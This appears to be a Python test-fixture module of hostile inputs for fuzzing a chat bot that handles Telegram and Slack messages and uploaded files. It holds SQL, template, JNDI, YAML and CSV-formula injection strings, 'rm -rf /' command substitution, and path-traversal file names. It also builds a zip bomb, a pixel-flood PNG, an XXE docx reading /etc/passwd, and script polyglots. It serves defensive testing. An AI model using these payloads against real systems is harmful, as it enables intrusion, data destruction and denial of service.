"""What somebody may send who means harm, or whose client does: texts by what they attack, names of files, files.

Data alone, for every test of this folder; what is done with it is theirs. The groups are those of the reliability
goals (T16), and `test_corpus.py` sees that each is there. Files are made when they are asked for: none lies on disk.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

#: what turns the direction of a line: never sent, or our own words after it are read backwards
TURNING: Final = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"

TEXTS: Final[Mapping[str, tuple[str, ...]]] = {
    "lengths": ("a", "b" * 4095, "字" * 4096, "😀 " * 1366, "ten thousand " * 770),
    "characters": (
        "nul\x00nul", "bell\x07back\x08", "\x85next\x9bline", "half \ud800 letter", "\udfff\ud83d turned",
        "\ufeffbom", "\u202egpj.exe", "\u2066isolate", "\u200bno\u200bwidth\u200d", "Z" + "\u0301" * 500,
        "e\u0301 and é", "👩‍👩‍👧‍👦🏳️‍🌈👍🏽", "pаypal (Cyrillic а)", "\U000e0041\U000e0042tags", "\u3164\u2800", "\u2028line\u2029end",
        "\x0bvertical\x0cform", "\U0010ffff\ufffe",
    ),
    "telegram": (
        "_*[]()~`>#+-=|{}.!\\", "<b>never closed", "</b></blockquote></pre>", "<b", '<a href="tg://user?id=1">you</a>',
        "[you](tg://user?id=1)", "<tg-spoiler>x</tg-spoiler>", "&lt;b&gt; &amp; &#60; &", "||spoiler||", "@everyone #tag",
        "https://evil.test/?a=1&b=<2>",
    ),
    "slack": (
        "<!channel>", "<!here|here>", "<!everyone>", "<@U123>", "<@U123|you>", "<#C123|room>", "<https://evil.test|https://good.test>",
        "<mailto:a@b.test|a>", "<!subteam^S1>", "<!date^1392734382^{date}|x>", "&lt;!channel&gt;", ":tada: *b* _i_ ~s~ `c` ```d```", "> quoted",
    ),
    "templates": ("{{7*7}}", "{0.__class__}", "{n} {name!r:>{w}}", "%s%n%(x)s", "${jndi:ldap://x.test/a}", "${name}", "{% raw %}", "$(id) `id` ; rm -rf /"),
    "yaml": ("!!python/object/apply:os.system [id]", "&a [*a, *a]", "{a: [b", "- - - |", "--- !<tag:x> x", "? {[a]: b}", "a: b: c", "'unclosed", '"unclosed \\x'),
    "csv": ("=1+1", "+1-1", "-2+3", "@SUM(A1)", "\tTAB", '=HYPERLINK("https://evil.test","x")', "=cmd|'/C calc'!A0", 'a"b""c', 'one\ntwo,"three"'),
    "sql": ("' OR 1=1 --", "'; DROP TABLE answers; --", '" OR ""="', "\\'; --", "%' AND 1=(SELECT 1)"),
    "logs": ("one\r\nlevel=error event=forged", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.test\x07x\x1b]8;;\x07", "\x9b2J", "\x1b[2K\rover"),
    "numbers": ("1e309", "-1e309", "NaN", "Infinity", "١٢٣", "-0", "0x10", "1_000", "9" * 400, "1e-400", "½"),
    "dates": ("0000-00-00", "2023-02-29", "10000-01-01", "9999-12-31T23:59:60Z", "-0001-01-01", "٢٠٢٤-٠١-٠١"),
    "patterns": ("a" * 3000 + "!", "a@" + "a." * 1500, "+" + "1-" * 1500, "http://" + "a/" * 1500, "(" * 1500 + ")" * 1500, "1," * 1500, " " * 1500 + "x"),
    "commands": ("/start ../../etc", "/open G-AAAA", "/read A-0000", "/whole", "/language xx", "/nothing@nobody", "#mark"),
}  # fmt: skip

#: the texts that a platform lets through as a message: not the empty ones
MESSAGES: Final = tuple(text for group in TEXTS.values() for text in group if text.strip())
#: nothing that a platform takes as one message, but a program may be handed it
MILLION: Final = "m" * 1_000_000

#: names that a client gives to a file
FILE_NAMES: Final = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\x.txt", "nul\x00.txt", "CON", "aux.txt", "a" * 300 + ".pdf",
    "\u202egpj.exe", "same.pdf", "same.pdf", ".", "..", " ", "-rf", "$(id).pdf", "<!channel>.pdf", "<b>.pdf", "a\nb.pdf",
    "\x1b[31m.pdf", "%s%n.pdf", "{0.__class__}.pdf", "=1+1.csv", "half\ud800.pdf", "~/.ssh/authorized_keys", "'; --.pdf",
)  # fmt: skip

#: a dialogue's id, a name or an argument that no button of ours says
FORGED: Final = (
    "", "0", "....", "1.x.", "zzzzzzzz.x.!submit", "-1.a.!submit", "1..", "1.a.c", "1.a.=", "1.a.= ", "1.a.#", "1.a.!", "1.a.+",
    "1.a.!start ../../x", "1.a.!edit ../../etc", "1.a.!go __proto__", "1.a.!place a b c", "1.a.!open x", "1.a.!read A-0000",
    "1.a.!resume AAAA-AAAA", "1.a.!allow_claim x", "1.a.!language \x00", "99999999.a.!submit", "1.a.c\ud800", "\u202e", "x" * 64, "\x00",
    "1.a.=x/y/z 1", "1.a.!remove_entry " + "9" * 30, "1.a.!read A-0000.99999.99999", "1.a.!section x", "1.a.!sweep x",
)  # fmt: skip


def zip_bomb() -> bytes:
    """10 KB that unpack to 10 MB, and name a path outside."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../outside", b"\0" * 10_000_000)
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def nested_zip() -> bytes:
    """Zip files in a zip file, each with a bomb."""
    made, bomb = io.BytesIO(), zip_bomb()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for at in range(8):
            archive.writestr(f"{at}.zip", bomb)
    return made.getvalue()


def pixel_flood() -> bytes:
    """A PNG that says that it is 60,000 by 60,000: 14 GB for whoever decodes it."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + _chunk(b"IEND", b"")
    )


def docx() -> bytes:
    """A document whose XML asks for a file of this machine."""
    made = io.BytesIO()
    xml = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", xml)
    return made.getvalue()


def polyglot() -> bytes:
    """A GIF, a page and a zip file at once."""
    return b"GIF89a/*<script>alert(1)</script>*/=1;" + zip_bomb()[:2000]


FILES: Final[Mapping[str, tuple[str, Callable[[], bytes]]]] = {
    "empty": ("empty.pdf", lambda: b""),
    "wrong magic": ("picture.png", lambda: b"MZ\x90\x00 this program cannot be run"),
    "polyglot": ("both.gif", polyglot),
    "svg with script": ("drawing.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "zip bomb": ("bomb.zip", zip_bomb),
    "nested zip": ("nested.zip", nested_zip),
    "pixel flood": ("flood.png", pixel_flood),
    "docx with an external entity": ("letter.docx", docx),
    "a type that lies": ("page.pdf", lambda: b"<!doctype html><script>alert(1)</script>"),
    "text that is none": ("list.txt", lambda: b"\xff\xfe\x00\xd8" * 500),
}  # fmt: skip


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
